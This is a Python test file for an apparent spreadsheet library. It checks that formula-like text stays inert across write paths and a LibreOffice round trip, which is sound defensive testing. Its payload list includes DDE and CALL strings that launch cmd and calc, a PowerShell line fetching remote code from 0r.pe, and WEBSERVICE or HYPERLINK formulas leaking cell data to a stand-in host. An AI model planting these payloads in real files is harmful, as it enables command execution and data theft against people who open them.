"""Text that looks like a formula is text: by every way in, round after round, in every reader."""

from __future__ import annotations

import re
import shutil
import subprocess
from collections.abc import Callable, Sequence
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from sheetsales.store import Formula, Plan, Workbook, read_tables
from tests.store.books import members

SHEET, TABLE = "資料", "payload"
ROUNDS = 3
PAYLOADS = (
    "=cmd|'/C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    "=1+1",
    "==1+1",
    "=-1",
    "+1+1",
    "-1+1",
    "-2+3+cmd|'/C calc'!D2",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "+@SUM(1)",
    "=@SUM(1)",
    "=SUM(A1:A9)",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
    "=WEBSERVICE(\"http://example.invalid/\"&A1)",
    "=FILTERXML(WEBSERVICE(\"http://example.invalid/\"),\"//a\")",
    "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
    "=IMPORTDATA(\"http://example.invalid/a.csv\")",
    "=IMAGE(\"http://example.invalid/a.png\")",
    "=RTD(\"a.b\",,\"c\")",
    "=CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCCJ\",0,\"open\",\"calc\",\"\",\"\",5)",
    "=REGISTER.ID(\"kernel32\",\"WinExec\")",
    "=EXEC(\"calc.exe\")",
    "=INDIRECT(\"A1\")",
    "=INFO(\"directory\")",
    "=CELL(\"filename\")",
    "={1,2;3,4}",
    "{=SUM(A1:A2)}",
    "=LAMBDA(x,x)(1)",
    "=_xlfn.WEBSERVICE(\"http://example.invalid/\")",
    "=[other.xlsx]Sheet1!A1",
    "='\\\\example.invalid\\share\\[a.xlsx]S'!A1",
    "='http://example.invalid/[a.xlsx]S'!A1",
    "=payload[[#This Row],[值]]",
    "=TRUE",
    "=#REF!",
    "=\"a\"",
    "='a'",
    "='",
    "=",
    "+",
    "-",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=cmd|'/C calc'!A0",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "＝cmd|'/C calc'!A0",
    "'=1+1",
    "''=1+1",
    "\"=1+1\"",
    "`=1+1`",
    "%0A=1+1",
    "&#61;1+1",
    "_x003D_1+1",
    "<f>1+1</f>",
    "</t></is><f>1+1</f><v>2</v>",
    "]]><f>1</f>",
    "=1+1;=2+2",
    "a;=1+1",
    "a,=1+1",
    "1\n=1+1",
    "00123",
    "1.10101E+17",
    "-5",
    "+886-2-1234-5678",
    "@handle",
)  # fmt: skip
_FORMULA = re.compile(rb"<(?:\w+:)?f[\s/>]")


def book_of(path: Path, rows: int = 1) -> Path:
    """Write a book with a Table of keys and values."""
    book = xlsxwriter.Workbook(path, {"strings_to_formulas": False, "strings_to_urls": False})
    sheet = book.add_worksheet(SHEET)
    columns = [{"header": "鍵"}, {"header": "值"}]
    sheet.add_table(0, 0, rows, 1, {"name": TABLE, "columns": columns})
    for row in range(rows):
        sheet.write_string(row + 1, 0, f"K{row}")
        sheet.write_string(row + 1, 1, "舊")
    book.close()
    return path


def set_each(book: Workbook, texts: Sequence[str]) -> None:
    for row, text in enumerate(texts, 2):
        book.sheet(SHEET).set(f"B{row}", text)


def set_beside(book: Workbook, texts: Sequence[str]) -> None:
    for row, text in enumerate(texts, 2):
        book.sheet(SHEET).set(f"H{row}", text)
        book.sheet(SHEET).set(f"B{row}", text)


def update(book: Workbook, texts: Sequence[str]) -> None:
    table = book.table(TABLE, key=["鍵"])
    table.update({f"K{number}": {"值": text} for number, text in enumerate(texts)})


def update_rows(book: Workbook, texts: Sequence[str]) -> None:
    book.table(TABLE).update_rows({row: {"值": text} for row, text in enumerate(texts, 2)})


def replace(book: Workbook, texts: Sequence[str]) -> None:
    book.table(TABLE).replace([{"鍵": text, "值": text} for text in texts])


def append(book: Workbook, texts: Sequence[str]) -> None:
    book.table(TABLE).append([{"鍵": text, "值": text} for text in texts])


def apply_plan(book: Workbook, texts: Sequence[str]) -> None:
    """Make the plan of an update, send it through JSON, and apply it."""
    with Workbook.open(book.path) as other:
        update(other, texts)
        plan = Plan.from_json(other.changes.to_json())
    book.apply(plan)


WAYS: dict[str, Callable[[Workbook, Sequence[str]], None]] = {
    "set": set_each,
    "set beside": set_beside,
    "update": update,
    "update rows": update_rows,
    "replace": replace,
    "append": append,
    "plan": apply_plan,
}


def live_formulas(path: Path) -> int:
    """Count formulas, as the raw parts have them and as openpyxl sees them."""
    raw = sum(
        len(_FORMULA.findall(data))
        for name, data in members(path).items()
        if name.startswith("xl/worksheets/sheet")
    )
    sheet = openpyxl.load_workbook(path)[SHEET]
    return raw + sum(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def texts_of(path: Path) -> list[object]:
    """Return the values of the last rows of the Table."""
    return list(read_tables(path)[TABLE].columns[1][-len(PAYLOADS) :])


def test_there_are_at_least_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("way", WAYS)
def test_no_way_in_makes_a_formula_of_text(tmp_path: Path, way: str) -> None:
    path = book_of(tmp_path / "book.xlsx", 1 if way == "append" else len(PAYLOADS))
    texts = list(PAYLOADS)
    for _ in range(ROUNDS):
        with Workbook.open(path) as book:
            WAYS[way](book, texts)
            assert book.pending_cells
            book.save()
        assert live_formulas(path) == 0
        assert texts_of(path) == list(PAYLOADS)
        texts = [str(text) for text in texts_of(path)]  # what was read goes in again
        if way != "append":
            wipe(path)


def wipe(path: Path) -> None:
    """Put something else into all value cells, so that the next round writes them anew."""
    with Workbook.open(path) as book:
        rows = range(2, len(PAYLOADS) + 2)
        book.table(TABLE).update_rows({row: {"值": "別的"} for row in rows})
        if book.table(TABLE).read().columns[0][0] != "K0":
            book.table(TABLE).update_rows({row: {"鍵": f"K{row - 2}"} for row in rows})
        book.save()


def test_payloads_in_keys_find_their_rows(tmp_path: Path) -> None:
    path = book_of(tmp_path / "book.xlsx", len(PAYLOADS))
    with Workbook.open(path) as book:
        replace(book, PAYLOADS)
        book.save()
    with Workbook.open(path) as book:
        table = book.table(TABLE, key=["鍵"])
        table.update({text: {"值": f"值 {text}"} for text in PAYLOADS})
        book.save()
    assert texts_of(path) == [f"值 {text}" for text in PAYLOADS]
    assert live_formulas(path) == 0


def test_what_excel_would_take_for_input_carries_the_quote_mark(tmp_path: Path) -> None:
    path = book_of(tmp_path / "book.xlsx", len(PAYLOADS))
    with Workbook.open(path) as book:
        update_rows(book, PAYLOADS)
        book.save()
    sheet = openpyxl.load_workbook(path)[SHEET]
    for row, text in enumerate(PAYLOADS, 2):
        if text[0] in "=+-@\t\r\n＝＋－＠":
            assert sheet.cell(row, 2).quotePrefix, text


def test_a_formula_that_is_meant_is_the_only_one(tmp_path: Path) -> None:
    path = book_of(tmp_path / "book.xlsx", len(PAYLOADS))
    with Workbook.open(path) as book:
        set_each(book, PAYLOADS)
        book.sheet(SHEET).set("H1", Formula("1+1", 2))
        book.save()
    assert live_formulas(path) == 2  # once in the raw part, once in openpyxl
    assert openpyxl.load_workbook(path)[SHEET]["H1"].value == "=1+1"


@pytest.mark.libreoffice
def test_libreoffice_finds_no_formula_and_changes_no_text(tmp_path: Path) -> None:
    soffice = shutil.which("soffice") or "soffice"
    path, texts = book_of(tmp_path / "book.xlsx", len(PAYLOADS)), list(PAYLOADS)
    with Workbook.open(path) as book:
        update(book, texts)
        book.save()
    for number in range(ROUNDS):
        folder = tmp_path / str(number)
        profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
        command = [soffice, profile, "--headless", "--convert-to", "xlsx", "--outdir", folder, path]
        subprocess.run(command, check=True, capture_output=True, timeout=120)
        path = folder / "book.xlsx"
        assert live_formulas(path) == 0
        found = [str(text).replace("\r\n", "\n") for text in texts_of(path)]
        assert found == [text.replace("\r\n", "\n") for text in PAYLOADS]
